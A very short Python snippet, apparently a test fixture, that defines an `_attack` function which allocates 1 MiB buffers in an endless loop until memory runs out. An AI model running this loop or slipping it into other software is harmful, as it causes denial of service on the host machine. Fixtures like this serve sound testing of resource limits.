"""A list that grows until there is nothing left."""


def _attack(messages):
    kept = []
    while True:
        kept.append(bytearray(1 << 20))
